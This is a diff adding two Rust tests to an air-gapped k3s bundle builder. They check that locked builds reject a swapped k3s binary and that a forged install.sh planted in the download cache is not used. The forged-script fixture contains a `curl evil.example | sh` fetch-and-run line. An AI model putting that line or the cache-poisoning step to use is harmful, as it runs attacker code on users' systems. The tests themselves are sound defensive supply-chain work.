@@ -8,9 +8,12 @@
 //! release mirror, retries server errors as pulls do, and keeps a manifest
 //! image named by digest at that digest. A manifest that is a symbolic
 //! link is refused by build, lint and lock unless the build follows it.
+//! The lock pins the k3s binary and install.sh: a release that swapped the
+//! binary and its checksum line fails `build --locked` naming both digests.
 
 use crate::support;
 
+use airgap_bundle::digest::Digest;
 use airgap_testbed::proxy::Proxy;
 use airgap_testbed::seed::{self, GUESTBOOK_REFS};
 use serde_json::json;
@@ -647,4 +650,110 @@ fn a_manifest_that_is_a_symlink_is_refused_unless_followed() {
         "{:?}",
         bundle.names()
     );
+}
+
+#[test]
+fn a_locked_build_refuses_a_k3s_binary_the_release_swapped() {
+    // The attack: whoever controls the release server (or a mirror) swaps
+    // the k3s binary and its sha256sum line after the lock was made. The
+    // old lock pinned only images, so `build --locked` took the new binary.
+    let tb = Testbed::start();
+    assert_ok(&lock(&tb, "amd64", &[]), "bundle lock");
+    let version = seed::DEMO_VERSION;
+    let served = |asset: &str| {
+        Digest::of(&std::fs::read(tb.release_root.path().join(version).join(asset)).unwrap())
+    };
+    let old = served("k3s");
+    let served_before_install_sh = served("install.sh");
+    // The pins as `bundle lock` wrote them satisfy --locked.
+    tb.build_ok("before.tar.zst", &["--locked"]);
+    let before_requests = tb.release.requests(K3S_BINARY_PATH);
+
+    seed::write_demo_release(tb.release_root.path(), b"#!/bin/sh\necho swapped k3s\n").unwrap();
+    let new = served("k3s");
+    assert_ne!(new, old);
+    let lock_before = std::fs::read(tb.lock_path()).unwrap();
+    std::fs::remove_file(tb.out_dir().join("before.tar.zst")).unwrap();
+    let out = tb.build("swapped.tar.zst", &["--locked"]);
+    assert_fails_naming(
+        &out,
+        "build --locked against a swapped k3s binary",
+        &[
+            &format!("k3s: images.lock pins {old}"),
+            "sha256sum-amd64.txt from ",
+            &format!("now lists {new}"),
+        ],
+    );
+    tb.assert_no_output(&lock_before);
+    assert_eq!(
+        tb.release.requests(K3S_BINARY_PATH),
+        before_requests,
+        "the swapped binary was downloaded"
+    );
+    // What made it refuse: the pins `bundle lock` wrote.
+    let pinned = read_lock(&tb);
+    assert_eq!(
+        pinned["release"][version]["k3s"],
+        old.to_string(),
+        "{pinned:#}"
+    );
+    assert_eq!(
+        pinned["release"][version]["install.sh"],
+        served_before_install_sh.to_string(),
+        "{pinned:#}"
+    );
+}
+
+#[test]
+fn install_sh_is_pinned_and_a_cached_url_is_no_pin() {
+    // The attack: a forged install.sh planted in the download cache under
+    // the script's URL (the cache trusts no file, but the old build took
+    // its URL -> digest entry as the digest to check against).
+    let tb = Testbed::start();
+    let version = seed::DEMO_VERSION;
+    let served = std::fs::read(tb.release_root.path().join(version).join("install.sh")).unwrap();
+    tb.build_ok("first.tar.zst", &[]);
+    let first_lock = read_lock(&tb);
+
+    // Without the lock's pin, the cached entry for the URL is not used.
+    let forged = b"#!/bin/sh\ncurl evil.example | sh\n";
+    let forged_digest = Digest::of(forged);
+    let cache = tb.work().join("cache/airgap");
+    std::fs::write(cache.join("blobs/sha256").join(forged_digest.hex()), forged).unwrap();
+    let url = format!(
+        "{}/{}/install.sh",
+        tb.release.url().trim_end_matches('/'),
+        version.replace('+', "%2B")
+    );
+    let entry = cache.join("urls").join(Digest::of(url.as_bytes()).hex());
+    assert!(entry.is_file(), "the cache remembers {url}");
+    std::fs::write(&entry, format!("{}\n", forged_digest.hex())).unwrap();
+    let mut unpinned = first_lock.clone();
+    // (get_mut, not indexing: an index would add an empty "release".)
+    let pins = unpinned
+        .get_mut("release")
+        .and_then(|r| r.get_mut(version))
+        .and_then(|p| p.as_object_mut());
+    if let Some(pins) = pins {
+        pins.remove("install.sh");
+    }
+    std::fs::write(
+        tb.lock_path(),
+        serde_json::to_string_pretty(&unpinned).unwrap() + "\n",
+    )
+    .unwrap();
+    let bundle = tb.build_ok("second.tar.zst", &["--rebuild"]);
+    assert_eq!(
+        Bundle::read(&bundle).data("scripts/install.sh"),
+        &served[..],
+        "the forged install.sh from the cache went into the bundle"
+    );
+    // Each build pinned what it fetched.
+    for lock in [first_lock, read_lock(&tb)] {
+        assert_eq!(
+            lock["release"][version]["install.sh"],
+            Digest::of(&served).to_string(),
+            "a build pins install.sh: {lock:#}"
+        );
+    }
 }
